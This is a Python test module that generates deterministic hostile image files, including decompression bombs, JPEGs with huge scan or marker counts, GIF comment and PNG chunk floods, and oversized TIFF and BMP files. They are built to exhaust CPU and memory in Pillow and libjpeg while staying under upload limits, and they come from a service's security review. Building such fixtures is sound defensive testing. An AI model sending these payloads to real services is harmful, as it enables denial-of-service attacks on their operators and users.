"""Small hostile image files, built from scratch: each one is a valid-looking PNG, JPEG, GIF, BMP
or TIFF that is small on the wire (at most 5 MiB, the default ``MAX_UPLOAD_BYTES``, and at most
40,000,000 pixels, the default ``MAX_IMAGE_PIXELS``) but costly to parse or decode, in CPU time,
memory or both. They come from a security review of the service.

Every generator is deterministic and returns ``bytes``; its defaults are the full-strength attack
and its parameters make a small version. :data:`HOSTILE_CASES` names each attack at full strength,
:data:`SMALL_CASES` the same attacks small enough to generate and decode in milliseconds (for unit
tests). Generating a full-strength case takes under 0.1 s, except the 16-bit PNG, the float
TIFF and the 36 MP photo (0.5-1.5 s each); opening or decoding one may take far longer, which is
the point: do that in a subprocess with a timeout.

The timings in the docstrings were measured with Pillow 13.0 on a 2-core machine that was
running a benchmark at the same time (load about 1.5), so they are noisy upper-side figures.

Import as ``tests.hostile_images`` (``tests`` is a namespace package; the repository root is on
``sys.path`` through the editable install, as for ``tests.reliability.raw_http``).
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Callable, Iterable, Sequence
from typing import Final

import numpy as np
from numpy.typing import NDArray
from PIL import Image

MAX_UPLOAD_BYTES: Final = 5 * 1024 * 1024
"""The service's default body limit: every full-strength case fits under it."""

Span = tuple[int, int]
"""Columns ``[start, end)`` of one row that a stroke covers."""


# The digit-like stroke every image carries (a thick "7").


def _merged(spans: Iterable[Span]) -> list[Span]:
    merged: list[Span] = []
    for start, end in sorted(spans):
        if merged and start <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(end, merged[-1][1]))
        else:
            merged.append((start, end))
    return merged


def digit_spans(width: int, height: int) -> list[list[Span]]:
    """For each row of a ``width`` x ``height`` canvas, top first, the column spans a thick "7"
    covers (a bar at 22 % of the height, a diagonal down to 80 %)."""
    thickness = max(1, min(width, height) // 14)
    bar_top = height * 22 // 100
    left, right = width * 30 // 100, width * 70 // 100
    foot_y, foot_x = height * 80 // 100, width * 42 // 100
    top_x = right - thickness
    rows: list[list[Span]] = [[] for _ in range(height)]
    for y in range(bar_top, min(bar_top + thickness, height)):
        rows[y].append((left, right))
    for y in range(bar_top, foot_y):
        start = top_x + (foot_x - top_x) * (y - bar_top) // max(1, foot_y - bar_top)
        rows[y].append((max(0, start), min(width, start + thickness)))
    return [_merged((s, e) for s, e in row if s < e) for row in rows]


def digit_array(width: int, height: int, *, paper: int = 0, ink: int = 255) -> NDArray[np.uint8]:
    """A ``height`` x ``width`` grey array of :func:`digit_spans` in ``ink`` on ``paper``."""
    array = np.full((height, width), paper, dtype=np.uint8)
    for y, spans in enumerate(digit_spans(width, height)):
        for start, end in spans:
            array[y, start:end] = ink
    return array


# JPEG.

_SOI: Final = b"\xff\xd8"
_EOI: Final = b"\xff\xd9"
_JFIF_APP0: Final = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">HH", marker, len(payload) + 2) + payload


def _huffman_codes(bits: Sequence[int], values: Sequence[int]) -> dict[int, tuple[int, int]]:
    """Canonical JPEG Huffman codes: symbol -> (code, length), from the DHT counts and values."""
    codes: dict[int, tuple[int, int]] = {}
    code, index = 0, 0
    for length, count in enumerate(bits, start=1):
        for _ in range(count):
            codes[values[index]] = (code, length)
            code += 1
            index += 1
        code <<= 1
    return codes


# DC table: category 0 (a zero difference) only, code "0". AC table: the end-of-band runs
# EOB0..EOB14 (symbols 0x00..0xE0); EOB14 (16384..32767 blocks) gets the 1-bit code "0".
_DC_BITS: Final = (1,) + (0,) * 15
_DC_VALUES: Final = (0x00,)
_AC_BITS: Final = (1, 0, 0, 0, 14) + (0,) * 11
_AC_VALUES: Final = (0xE0, *range(0x00, 0xE0, 0x10))
_AC_CODES: Final = _huffman_codes(_AC_BITS, _AC_VALUES)
_LONG_EOB_RUN: Final = 0x7FFF - 0x80
"""32,639 blocks: EOB14 with the extra bits 11111110111111, so the coded bits never hold eight
1-bits in a row and need no 0xFF byte stuffing."""


class _BitWriter:
    """JPEG entropy-coded bits, most significant first, with 0xFF byte stuffing."""

    def __init__(self) -> None:
        self._out = bytearray()
        self._bits = 0
        self._count = 0

    def write(self, value: int, length: int) -> None:
        self._bits = (self._bits << length) | value
        self._count += length
        while self._count >= 8:
            self._count -= 8
            byte = (self._bits >> self._count) & 0xFF
            self._out.append(byte)
            if byte == 0xFF:
                self._out.append(0x00)
        self._bits &= (1 << self._count) - 1

    def finish(self) -> bytes:
        """The bytes written, the last one padded with 1-bits."""
        if self._count:
            self.write((1 << (8 - self._count)) - 1, 8 - self._count)
        return bytes(self._out)


def _end_of_band_runs(blocks: int) -> bytes:
    """Entropy-coded data of an AC scan (first or refinement) over ``blocks`` blocks whose
    coefficients are all zero: nothing but end-of-band runs of 32,639 blocks and a shorter last
    one."""
    writer = _BitWriter()
    while blocks:
        run = min(blocks, _LONG_EOB_RUN)
        r = run.bit_length() - 1
        writer.write(*_AC_CODES[r << 4])
        writer.write(run - (1 << r), r)
        blocks -= run
    return writer.finish()


def _all_zero_dc_scan(bits: int) -> bytes:
    """Entropy-coded data of a DC first scan coding ``bits`` blocks with a zero difference (the
    1-bit code "0" each), padded with 1-bits."""
    whole, rest = divmod(bits, 8)
    return bytes(whole) + (bytes([(1 << (8 - rest)) - 1]) if rest else b"")


def _sos(components: Sequence[int], ss: int, se: int, ah: int, al: int) -> bytes:
    payload = bytes([len(components)])
    for component in components:
        payload += bytes([component, 0x00])  # DC table 0, AC table 0
    return _jpeg_segment(0xFFDA, payload + bytes([ss, se, (ah << 4) | al]))


def progressive_jpeg_many_scans(
    width: int = 6320,
    height: int = 6320,
    scans: int = 1000,
    *,
    components: int = 1,
    dc_scan: bool = True,
) -> bytes:
    """A progressive JPEG (SOF2) whose DCT coefficients are all zero (a flat mid-grey image),
    coded in ``1 + scans`` scans: one DC first scan over all components, then ``scans`` AC scans
    of coefficients 1-63, one component each in turn. Each component's first AC scan is a
    first scan with Al=1; every later one is the same refinement scan (Ah=1, Al=0) again, which
    libjpeg decodes with only a warning ("inconsistent progression sequence"). An AC scan is
    nothing but end-of-band runs of 32,639 blocks: 48 bytes at the default size.

    Why it is costly: libjpeg walks every block of the component in every scan (a refinement
    scan also looks at all 63 coefficients of each block), so the work is ``scans`` x the blocks
    (1000 x 624,100 at the default) whatever scale Pillow asks for with ``draft``. A progressive
    JPEG also makes libjpeg hold the whole image's coefficients (128 bytes per 8 x 8 block per
    component: 80 MB for the default grey file), again even at a reduced output scale.

    ``components=4`` makes the memory variant: an Adobe (APP14, transform 2 = YCCK) file that
    Pillow reads as CMYK, 4 x the coefficient memory (320 MB at the default size) for about the
    same bytes; ``components=3`` is a YCbCr file. ``dc_scan=False`` leaves out the DC scan (libjpeg
    then warns, and the file shrinks by one bit per block per component).

    Size at the default parameters: 126,181 bytes (grey; the DC scan is 78,013 of them),
    360,231 bytes with ``components=4``; 39,942,400 pixels. Decoding the default grey file takes
    of the order of a minute here (100 scans took 5.2 s at 1/8 scale).
    """
    if components not in (1, 3, 4):
        raise ValueError("components must be 1, 3 or 4")
    if not (1 <= width <= 0xFFFF and 1 <= height <= 0xFFFF) or scans < components:
        raise ValueError("the size must be 1..65535 and there must be a scan per component")
    ids = list(range(1, components + 1))
    blocks = -(-width // 8) * -(-height // 8)

    parts = [_SOI]
    if components == 4:
        parts.append(_jpeg_segment(0xFFEE, b"Adobe" + struct.pack(">HHHB", 100, 0, 0, 2)))
    else:
        parts.append(_jpeg_segment(0xFFE0, _JFIF_APP0))
    parts.append(_jpeg_segment(0xFFDB, bytes([0x00]) + bytes([16] * 64)))
    frame = struct.pack(">BHHB", 8, height, width, components)
    frame += b"".join(bytes([component, 0x11, 0]) for component in ids)
    parts.append(_jpeg_segment(0xFFC2, frame))
    parts.append(
        _jpeg_segment(
            0xFFC4,
            bytes([0x00, *_DC_BITS, *_DC_VALUES]) + bytes([0x10, *_AC_BITS, *_AC_VALUES]),
        )
    )
    if dc_scan:
        parts.append(_sos(ids, 0, 0, 0, 0) + _all_zero_dc_scan(blocks * components))
    ac_data = _end_of_band_runs(blocks)
    for index in range(scans):
        ah, al = (0, 1) if index < components else (1, 0)
        parts.append(_sos([ids[index % components]], 1, 63, ah, al) + ac_data)
    parts.append(_EOI)
    return b"".join(parts)


def _encoded(image: Image.Image, image_format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


def _jpeg_marker_offset(jpeg: bytes, marker: int) -> int:
    """Where the first segment with ``marker`` starts (walking the segments before the scan)."""
    position = 2
    while position + 4 <= len(jpeg):
        (found, length) = struct.unpack_from(">HH", jpeg, position)
        if found == marker:
            return position
        if found == 0xFFDA:
            break
        position += 2 + length
    raise ValueError(f"no marker {marker:#06x} before the scan")


def jpeg_many_app_segments(count: int = 1_300_000) -> bytes:
    """A tiny valid baseline JPEG (28 x 28 grey "7", made by Pillow) with ``count`` empty APP1
    segments (``FF E1 00 02``, 4 bytes each) just before its frame header (SOF0).

    Why it is costly: Pillow parses every marker before the first scan in Python when it opens
    the file (before any size check can run) and keeps each APP segment in ``applist``: 1.3 M
    Python-level marker reads and a list of 1.3 M tuples for a 5 MB upload; libjpeg then skips
    them all again when decoding (quickly, in C).

    Size at the default parameters: 5,200,562 bytes (under 5 MiB); 784 pixels. Opening it
    took 2.6-3.8 s and 195 MB of RSS here; decoding it after that 15 ms.
    """
    base = _encoded(Image.fromarray(digit_array(28, 28)), "JPEG", quality=90)
    frame = _jpeg_marker_offset(base, 0xFFC0)
    return base[:frame] + b"\xff\xe1\x00\x02" * count + base[frame:]


def progressive_jpeg_photo(
    width: int = 6000,
    height: int = 6000,
    *,
    quality: int = 90,
    max_bytes: int = MAX_UPLOAD_BYTES,
) -> bytes:
    """A normal progressive colour JPEG (Pillow ``progressive=True``, libjpeg's standard 10-scan
    progression, 4:2:0) of a smooth photo-like field (three gradients) with a dark "7"; if it
    comes out over ``max_bytes`` the quality is lowered in steps of 10 until it fits.

    Why it is costly: nothing is hostile in it; it is the legitimate worst case at the pixel
    limit. A progressive JPEG makes libjpeg buffer the whole image's coefficients (about 108 MB
    for 36 MP in 4:2:0) and run every scan over it, even when Pillow decodes at 1/8 scale in
    grey.

    Size at the default parameters: 635,796 bytes (quality 90); 36,000,000 pixels. Generating
    it takes about 1.4 s; decoding it took 0.29 s and 264 MB of RSS at full size, 0.16 s and
    125 MB at 1/8 scale.
    """
    ramp = Image.linear_gradient("L")
    red = ramp.resize((width, height), Image.Resampling.BILINEAR)
    green = ramp.rotate(90).resize((width, height), Image.Resampling.BILINEAR)
    blue = Image.radial_gradient("L").resize((width, height), Image.Resampling.BILINEAR)
    photo = Image.merge("RGB", (red, green, blue))
    del red, green, blue
    stroke = Image.fromarray(digit_array(width, height))
    photo.paste((20, 24, 30), mask=stroke)
    del stroke
    while True:
        data = _encoded(photo, "JPEG", quality=quality, progressive=True)
        if len(data) <= max_bytes or quality <= 10:
            return data
        quality -= 10


# TIFF (little-endian, hand-written).

_TIFF_SHORT: Final = 3
_TIFF_LONG: Final = 4
_TIFF_DTYPES: Final = {_TIFF_SHORT: "<u2", _TIFF_LONG: "<u4"}

TiffEntry = tuple[int, int, Sequence[int] | NDArray[np.integer]]
"""One IFD entry: tag, type (SHORT or LONG) and its values."""


def _tiff(pixel_data: bytes, entries: Sequence[TiffEntry]) -> bytes:
    """A little-endian TIFF: the 8-byte header, ``pixel_data`` at offset 8 (strip offsets point
    into it), then one IFD and after it the entries' values that do not fit in 4 bytes."""
    ifd_offset = 8 + len(pixel_data) + len(pixel_data) % 2
    values_offset = ifd_offset + 2 + 12 * len(entries) + 4
    directory = [struct.pack("<H", len(entries))]
    values: list[bytes] = []
    for tag, kind, numbers in sorted(entries, key=lambda entry: entry[0]):
        packed = np.asarray(numbers, dtype=_TIFF_DTYPES[kind]).tobytes()
        count = len(numbers)
        if len(packed) <= 4:
            field = packed.ljust(4, b"\x00")
        else:
            field = struct.pack("<I", values_offset)
            values.append(packed + b"\x00" * (len(packed) % 2))
            values_offset += len(values[-1])
        directory.append(struct.pack("<HHI", tag, kind, count) + field)
    directory.append(struct.pack("<I", 0))  # no next IFD
    padding = b"\x00" * (len(pixel_data) % 2)
    header = b"II*\x00" + struct.pack("<I", ifd_offset)
    return header + pixel_data + padding + b"".join(directory) + b"".join(values)


def tiff_one_strip_per_row(width: int = 1, height: int = 900_000) -> bytes:
    """An uncompressed 8-bit grey TIFF with RowsPerStrip=1: ``height`` strips of one row each.
    StripOffsets and StripByteCounts are SHORT arrays (2 bytes a strip each; the byte counts are
    LONG for rows over 65,535 bytes). To keep the offsets under 65,536 the strips point, in
    turn, into one block of at most 1,024 distinct rows and 60,000 bytes (one row if a row is
    longer), so rows repeat with that period (nothing in TIFF forbids strips sharing bytes).

    Why it is costly: Pillow decodes an uncompressed TIFF itself, one tile per strip: opening
    the file builds a Python list of 900,000 tiles (about 300 MB) and decoding runs a Python
    loop with a new decoder per strip and, as the strips share offsets, a 64 KiB read for each.

    Size at the default parameters: 3,601,158 bytes; 900,000 pixels (1 x 900,000). Opening it
    took 2.3 s and 318 MB of RSS here; decoding adds about 6.5 us a strip (about 6 s, from
    100,000 rows: 0.32 s to open, 0.65 s to decode).
    """
    period = min(height, 1024, max(1, 60_000 // width))
    block = b"".join(bytes([(row * 255 // max(1, period - 1))]) * width for row in range(period))
    offsets = 8 + (np.arange(height, dtype=np.int64) % period) * width  # under 65,536
    count_kind = _TIFF_SHORT if width <= 0xFFFF else _TIFF_LONG
    return _tiff(
        block,
        [
            (256, _TIFF_LONG, [width]),  # ImageWidth
            (257, _TIFF_LONG, [height]),  # ImageLength
            (258, _TIFF_SHORT, [8]),  # BitsPerSample
            (259, _TIFF_SHORT, [1]),  # Compression: none
            (262, _TIFF_SHORT, [1]),  # PhotometricInterpretation: BlackIsZero
            (273, _TIFF_SHORT, offsets),  # StripOffsets
            (277, _TIFF_SHORT, [1]),  # SamplesPerPixel
            (278, _TIFF_LONG, [1]),  # RowsPerStrip
            (279, count_kind, np.full(height, width, dtype=np.int64)),  # StripByteCounts
            (284, _TIFF_SHORT, [1]),  # PlanarConfiguration: contiguous
        ],
    )


def float_tiff_with_nan(side: int = 6324, *, rows_per_strip: int = 16, band: int = 2048) -> bytes:
    """A ``side`` x ``side`` 32-bit float grey TIFF (SampleFormat 3, Adobe deflate, no
    predictor, ``rows_per_strip`` rows a strip; Pillow reads it as mode ``F`` through libtiff):
    a smooth bright field (0.55-0.9, rising smoothly down the rows and in ``band``-pixel steps
    across) with a dark "7" (0.05) and one NaN pixel at (x, y) = (side // 7, side // 9).

    Why it is costly: 160 MB of float pixels (4 bytes each) from a few hundred KB, decoded at full
    size (only JPEG has a reduced-scale decode), and whatever the service then computes on
    them in float meets a NaN.

    Size at the default parameters: 305,512 bytes; 39,992,976 pixels. Generating it takes
    about 1.3 s; decoding it took 0.2 s and 177 MB of RSS here.
    """
    nan_x, nan_y = side // 7, side // 9
    ink = struct.pack("<f", 0.05)
    steps = np.arange(side, dtype=np.float64) // band * band / max(1, side - 1)
    strips: list[bytes] = []
    rows: list[bytes] = []
    for y, spans in enumerate(digit_spans(side, side)):
        field = (0.55 + 0.2 * y / max(1, side - 1) + 0.15 * steps).astype("<f4")
        row = bytearray(field.tobytes())
        for start, end in spans:
            row[4 * start : 4 * end] = ink * (end - start)
        if y == nan_y:
            row[4 * nan_x : 4 * nan_x + 4] = struct.pack("<f", float("nan"))
        rows.append(bytes(row))
        if len(rows) == rows_per_strip or y == side - 1:
            strips.append(zlib.compress(b"".join(rows), 9))
            rows = []
    offsets = np.cumsum([8] + [len(strip) for strip in strips[:-1]], dtype=np.int64)
    return _tiff(
        b"".join(strips),
        [
            (256, _TIFF_LONG, [side]),  # ImageWidth
            (257, _TIFF_LONG, [side]),  # ImageLength
            (258, _TIFF_SHORT, [32]),  # BitsPerSample
            (259, _TIFF_SHORT, [8]),  # Compression: Adobe deflate
            (262, _TIFF_SHORT, [1]),  # PhotometricInterpretation: BlackIsZero
            (273, _TIFF_LONG, offsets),  # StripOffsets
            (277, _TIFF_SHORT, [1]),  # SamplesPerPixel
            (278, _TIFF_LONG, [rows_per_strip]),  # RowsPerStrip
            (279, _TIFF_LONG, [len(strip) for strip in strips]),  # StripByteCounts
            (284, _TIFF_SHORT, [1]),  # PlanarConfiguration: contiguous
            (339, _TIFF_SHORT, [3]),  # SampleFormat: IEEE float
        ],
    )


# GIF.


def gif_comment_many_subblocks(subblocks: int = 2_600_000) -> bytes:
    """A tiny valid GIF89a (28 x 28 "7", made by Pillow) with one Comment Extension, right
    after the global colour table, made of ``subblocks`` one-byte data sub-blocks
    (``01 61``, 2 bytes each).

    Why it is costly: Pillow reads the extensions before the first image descriptor in Python
    when it opens the file, two ``read`` calls and one list append per sub-block: 2.6 M
    iterations and a list of 2.6 M items before any size check, for a 5 MB upload; the comment
    then lands in ``info["comment"]`` (2.6 MB).

    Size at the default parameters: 5,200,120 bytes (under 5 MiB); 784 pixels. Opening it
    took 1.0 s and 248 MB of RSS here.
    """
    base = _encoded(Image.fromarray(digit_array(28, 28)), "GIF")
    flags = base[10]
    table_end = 13 + (3 << ((flags & 0x07) + 1) if flags & 0x80 else 0)
    comment = b"\x21\xfe" + b"\x01a" * subblocks + b"\x00"
    return base[:table_end] + comment + base[table_end:]


# PNG (hand-written).

_PNG_SIGNATURE: Final = b"\x89PNG\r\n\x1a\n"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk with its length and a correct CRC."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(
    width: int, height: int, idat: bytes, *, bit_depth: int = 8, before_idat: bytes = b""
) -> bytes:
    """A grey PNG with compressed image data ``idat`` and the chunks ``before_idat``."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return (
        _PNG_SIGNATURE
        + _png_chunk(b"IHDR", header)
        + before_idat
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _small_digit_png(before_idat: bytes) -> bytes:
    """A 28 x 28 8-bit grey PNG of a white "7" on black, with the chunks ``before_idat``."""
    rows = b"".join(b"\x00" + row.tobytes() for row in digit_array(28, 28))
    return _png(28, 28, zlib.compress(rows, 9), before_idat=before_idat)


def png_many_text_chunks(count: int = 400_000, *, data: bytes = b"a") -> bytes:
    """A tiny valid 28 x 28 grey PNG with ``count`` identical tEXt chunks (each with a valid
    CRC) between IHDR and IDAT. Each chunk's data is ``data``: by default the 1-byte keyword
    ``a`` with no separator or text (13 bytes a chunk, which Pillow reads as keyword ``a`` with
    empty text), so that 400,000 chunks fit in 5 MiB; ``data=b"a\\x00"`` is the strictly
    conformant 14-byte chunk.

    Why it is costly: Pillow reads every chunk before IDAT in Python when it opens the file
    (read, CRC, ``chunk_tEXt``, a dict update): 400,000 iterations before any size check; the
    service's own chunk/CRC walk is another Python loop over them.

    Size at the default parameters: 5,200,088 bytes (under 5 MiB); 784 pixels. Opening it
    took 1.8 s (21 MB of RSS) here.
    """
    return _small_digit_png(_png_chunk(b"tEXt", data) * count)


def png_ztxt_bombs(chunks: int = 60, inflated_each: int = 1 << 20) -> bytes:
    """A 28 x 28 grey PNG with ``chunks`` zTXt chunks between IHDR and IDAT, keywords ``c0``,
    ``c1``, ..., each holding ``inflated_each`` zero bytes deflated at level 9 (about 1 KB for
    1 MiB).

    Why it is costly: Pillow inflates every zTXt chunk when it opens the file, before any size
    check, and keeps each (distinctly named) text in ``info`` and ``text``: 60 MiB of memory and
    60 MiB of inflating from 64 KB. Each chunk is exactly Pillow's ``MAX_TEXT_CHUNK`` (1 MiB)
    and the total stays under its ``MAX_TEXT_MEMORY`` (64 MiB), so Pillow accepts it.

    Size at the default parameters: 63,438 bytes (at most 64 KiB); 784 pixels. Opening it
    took 0.3 s and 79 MB of RSS here.
    """
    deflated = zlib.compress(bytes(inflated_each), 9)
    text = b"".join(
        _png_chunk(b"zTXt", b"c%d\x00\x00" % index + deflated) for index in range(chunks)
    )
    return _small_digit_png(text)


def png_16bit(width: int = 6324, height: int = 6324) -> bytes:
    """A legal 16-bit grey PNG (colour type 0, bit depth 16, filter None on every row), flat
    light grey (0xE000) with one dark "7" stroke (0x1000), deflated at level 9.

    Why it is costly: 40 MP of 16-bit pixels (80 MB as Pillow's ``I;16``, and more once
    converted to 32-bit or float) inflated from about 100 KB, decoded at full size; an image
    this size is within the pixel limit, so nothing refuses it.

    Size at the default parameters: 105,239 bytes; 39,992,976 pixels. Generating it takes
    about 0.5 s; decoding it took 0.15 s and 94 MB of RSS here.
    """
    paper, ink = struct.pack(">H", 0xE000), struct.pack(">H", 0x1000)
    blank = b"\x00" + paper * width
    compressor = zlib.compressobj(9)
    idat: list[bytes] = []
    for spans in digit_spans(width, height):
        if spans:
            row = bytearray(blank)
            for start, end in spans:
                row[1 + 2 * start : 1 + 2 * end] = ink * (end - start)
            idat.append(compressor.compress(bytes(row)))
        else:
            idat.append(compressor.compress(blank))
    idat.append(compressor.flush())
    return _png(width, height, b"".join(idat), bit_depth=16)


# BMP.


def _rle8_runs(count: int, value: int) -> bytes:
    """RLE8 encoded-mode pairs for ``count`` pixels of ``value`` (runs of at most 255)."""
    full, rest = divmod(count, 255)
    return bytes([255, value]) * full + (bytes([rest, value]) if rest else b"")


def bmp_rle8(width: int = 3240, height: int = 3240) -> bytes:
    """An 8-bit BMP (BITMAPINFOHEADER, grey palette, bottom-up) compressed with RLE8: a white
    "7" on black, each row coded as its runs up to the stroke's end and then an end-of-line
    escape (``00 00``) that leaves the rest of the row black; a row with no stroke is one black
    pixel (``01 00``) then end-of-line. The last row is followed by end-of-bitmap (``00 01``).

    Why it is costly: Pillow decodes RLE BMPs in Python (``BmpRleDecoder``), and fills the
    rest of a row after end-of-line one byte per loop iteration, so almost every one of the
    ``width`` x ``height`` pixels costs an iteration of Python while the file holds a few bytes
    per row.

    Size at the default parameters: 41,270 bytes; 10,497,600 pixels (3240 x 3240), sized to
    take about 2 s to decode here (2800 x 2800 took 1.5 s; 100-190 ns a pixel).
    """
    pixel_rows = []
    for spans in reversed(digit_spans(width, height)):  # BMP rows are stored bottom-up
        row = bytearray()
        position = 0
        for start, end in spans:
            row += _rle8_runs(start - position, 0) + _rle8_runs(end - start, 255)
            position = end
        if position == 0:
            row += bytes([1, 0])
        row += b"\x00\x00"  # end of line
        pixel_rows.append(bytes(row))
    pixels = b"".join(pixel_rows) + b"\x00\x01"  # end of bitmap
    palette = b"".join(bytes([level, level, level, 0]) for level in range(256))
    offset = 14 + 40 + len(palette)
    file_header = b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset)
    info_header = struct.pack(
        "<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(pixels), 2835, 2835, 256, 0
    )
    return file_header + info_header + palette + pixels


# The cases.

HOSTILE_CASES: Final[dict[str, Callable[[], bytes]]] = {
    "progressive_jpeg_many_scans": progressive_jpeg_many_scans,
    "progressive_jpeg_many_scans_cmyk": functools.partial(
        progressive_jpeg_many_scans, components=4
    ),
    "jpeg_many_app_segments": jpeg_many_app_segments,
    "tiff_one_strip_per_row": tiff_one_strip_per_row,
    "gif_comment_many_subblocks": gif_comment_many_subblocks,
    "png_many_text_chunks": png_many_text_chunks,
    "bmp_rle8": bmp_rle8,
    "png_ztxt_bombs": png_ztxt_bombs,
    "float_tiff_with_nan": float_tiff_with_nan,
    "png_16bit": png_16bit,
    "progressive_jpeg_photo": progressive_jpeg_photo,
}
"""Each attack at full strength (the generators' defaults)."""

SMALL_CASES: Final[dict[str, Callable[[], bytes]]] = {
    "progressive_jpeg_many_scans": functools.partial(progressive_jpeg_many_scans, 64, 48, scans=12),
    "progressive_jpeg_many_scans_cmyk": functools.partial(
        progressive_jpeg_many_scans, 64, 48, scans=12, components=4
    ),
    "jpeg_many_app_segments": functools.partial(jpeg_many_app_segments, 1000),
    "tiff_one_strip_per_row": functools.partial(tiff_one_strip_per_row, 3, 500),
    "gif_comment_many_subblocks": functools.partial(gif_comment_many_subblocks, 1000),
    "png_many_text_chunks": functools.partial(png_many_text_chunks, 500),
    "bmp_rle8": functools.partial(bmp_rle8, 64, 48),
    "png_ztxt_bombs": functools.partial(png_ztxt_bombs, 3, 4096),
    "float_tiff_with_nan": functools.partial(float_tiff_with_nan, 64),
    "png_16bit": functools.partial(png_16bit, 64, 48),
    "progressive_jpeg_photo": functools.partial(progressive_jpeg_photo, 96, 64),
}
"""The same attacks, small enough to generate and decode in milliseconds."""
